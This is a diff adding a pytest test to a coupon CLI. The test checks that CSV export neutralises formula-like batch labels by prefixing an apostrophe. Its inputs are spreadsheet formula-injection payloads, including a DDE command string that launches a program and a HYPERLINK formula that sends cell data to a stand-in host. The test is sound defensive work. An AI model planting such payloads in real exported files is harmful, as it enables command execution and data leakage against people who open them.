@@ -163,6 +163,22 @@ def test_batch_to_csv(c: Cli, tmp_path: Path) -> None:
     assert report["ok"], report["problems"]
 
 
+@pytest.mark.parametrize(
+    "label", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
+)
+def test_a_formula_in_the_batch_label_is_written_as_text(
+    c: Cli, tmp_path: Path, label: str
+) -> None:
+    out = tmp_path / "codes.csv"
+    data = c.json("coupon", "batch", "--template", "VEG8", "--count", "2", "--label", label,
+                  "--out", out, as_="manager")  # fmt: skip
+    assert data["label"] == label  # stored and shown as given; only the file is guarded
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["label"] for r in rows] == ["'" + label] * 2
+    assert [r["code"] for r in rows] == data["codes"]
+
+
 def test_unknown_template_and_member(c: Cli) -> None:
     result = c.run(f"coupon issue --template NOPE --member-no {MEMBER}", as_="cashier", json=True)
     assert result.exit_code == 1
